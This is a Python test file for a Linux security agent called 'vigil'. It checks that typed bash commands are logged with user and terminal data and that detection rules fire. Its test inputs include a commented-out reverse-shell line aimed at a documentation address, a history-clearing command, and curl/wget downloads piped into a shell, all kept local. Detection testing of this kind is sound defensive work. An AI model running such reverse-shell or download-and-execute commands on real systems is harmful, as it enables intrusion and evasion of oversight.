"""Shell-command events of the real agent: an interactive bash on a pseudo-terminal, typed into
as the unprivileged test user, reported line by line with the shell's who-data and terminal;
SigmaHQ's keyword rules (``rules/linux/builtin``) fire on the typed line."""

from __future__ import annotations

import os
import uuid

import pytest
from agent_proc import AgentProc, Event, Pred, UserIds, get
from shell_pty import interactive_bash

pytestmark = [pytest.mark.root, pytest.mark.matrix]

SUSP_COMMANDS = "2aa1440c-9ae9-4d92-84a7-a9e5f5e31695"   # lnx_shell_susp_commands
REV_SHELLS = "738d9bcf-6999-4fdb-b4ac-3033037db8ab"      # lnx_shell_susp_rev_shells
CLEAR_HISTORY = "fdc88d25-96fb-4b7c-9633-c0e417fdbd4e"   # lnx_shell_clear_cmd_history
BASH = "/usr/bin/bash"


def _commands_of(pid: int) -> Pred:
    def pred(ev: Event) -> bool:
        return get(ev, "event.action") == "shell-command" and get(ev, "process.pid") == pid

    return pred


def _alert(rule_id: str, pid: int) -> Pred:
    def pred(ev: Event) -> bool:
        return get(ev, "rule.id") == rule_id and get(ev, "process.pid") == pid

    return pred


def test_typed_commands_with_who_data_and_terminal(agent: AgentProc,
                                                   test_user: UserIds) -> None:
    tag = f"vigil-{uuid.uuid4().hex[:12]}"
    lines = [
        f"echo {tag}",
        "",                                               # an empty line: nothing to report
        f"echo binary >> /dev/null  # {tag}",             # lnx_shell_susp_commands
        f"# bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 {tag}",   # lnx_shell_susp_rev_shells
        f"history -c  # {tag}",                            # lnx_shell_clear_cmd_history
        "echo " + "x" * 5000,                             # longer than the kernel keeps
        "echo " + "y" * 4091,                             # exactly as long: not cut
    ]
    s = interactive_bash(lines, user=test_user.ids)
    assert os.WIFEXITED(s.status) and os.WEXITSTATUS(s.status) == 0, s.output[-300:]
    typed = [ln for ln in lines if ln] + ["exit"]
    evs = agent.wait_for(_commands_of(s.pid), count=len(typed))
    assert [get(e, "vigil.shell.command") for e in evs] == \
        [ln if len(ln) <= 4096 else ln[:4096] for ln in typed]
    rdev = s.rdev
    for ev in evs:
        assert get(ev, "event.category") == ["process"]
        assert get(ev, "event.dataset") == "vigil.shell"
        assert get(ev, "process.executable") == BASH
        assert get(ev, "process.name") == "bash"
        assert get(ev, "process.args") == ["bash", "--norc", "--noprofile", "-i"]
        assert get(ev, "process.parent.pid") == os.getpid()
        assert get(ev, "user.id") == str(test_user.uid)
        assert get(ev, "user.name") == test_user.name
        assert get(ev, "process.user.id") == str(test_user.uid)
        assert get(ev, "process.tty.char_device.major") == os.major(rdev)
        assert get(ev, "process.tty.char_device.minor") == os.minor(rdev)
        assert get(ev, "vigil.shell.tty") == s.tty.removeprefix("/dev/")
        assert get(ev, "process.session_leader.pid") == s.pid   # pty.fork: a new session
    assert [bool(get(e, "vigil.shell.command_truncated")) for e in evs] == \
        [len(ln) > 4096 for ln in typed]
    for rule_id, line in ((SUSP_COMMANDS, typed[1]), (REV_SHELLS, typed[2]),
                          (CLEAR_HISTORY, typed[3])):
        [alert] = agent.wait_for(_alert(rule_id, s.pid), alerts=True)
        assert get(alert, "vigil.shell.command") == line
        assert get(alert, "process.executable") == BASH
        assert get(alert, "user.id") == str(test_user.uid)
    # the benign lines fire no rule
    fired = {get(a, "vigil.shell.command") for a in agent.alerts
             if get(a, "process.pid") == s.pid}
    assert fired == {typed[1], typed[2], typed[3]}


def test_doctor_names_the_hooked_bash() -> None:
    from vigil import doctor

    report = doctor.collect()
    [b] = [b for b in report.shell_binaries if b["binary"] == os.path.realpath(BASH)]
    assert b["status"] == "ready" and b["found_in"] == ".dynsym"


DOWNLOAD_PIPED = "52270811-487b-47bb-8fd0-b7f82cee5e98"   # vigil_shell_download_piped_to_shell


def test_download_piped_to_a_shell_is_an_alert(agent: AgentProc, test_user: UserIds) -> None:
    """Vigil's pack rule on typed lines: curl/wget into a shell or an interpreter alerts; the
    same tools writing a file, and a pipe into a shell of something else, do not. Nothing
    leaves the machine: the URLs are closed loopback ports."""
    tag = uuid.uuid4().hex[:12]
    alerting = [f"curl -fsS http://127.0.0.1:9/{tag} | sh",
                f"wget -qO- http://127.0.0.1:9/{tag} | env -i bash -s",
                f"curl -s http://127.0.0.1:9/{tag}.py | python3 -"]
    quiet = [f"curl -fsS -o /dev/null http://127.0.0.1:9/{tag} || true",
             f"echo curl {tag} | cat",
             f"wget -q http://127.0.0.1:9/{tag} ; sh -c true"]
    # one shell per alerting line: repeats of a rule by one process are folded into one alert
    for line in alerting:
        s = interactive_bash([line], user=test_user.ids)
        assert os.WIFEXITED(s.status), s.output[-300:]
        [alert] = agent.wait_for(_alert(DOWNLOAD_PIPED, s.pid), alerts=True)
        assert get(alert, "vigil.shell.command") == line
        assert get(alert, "user.id") == str(test_user.uid)
        assert get(alert, "rule.ruleset") == "vigil"
    s = interactive_bash(quiet, user=test_user.ids)
    assert os.WIFEXITED(s.status), s.output[-300:]
    # alerts are made with their events: once every line has arrived, none can follow
    agent.wait_for(_commands_of(s.pid), count=len(quiet) + 1)
    assert not [a for a in agent.alerts if get(a, "rule.id") == DOWNLOAD_PIPED
                and get(a, "process.pid") == s.pid]
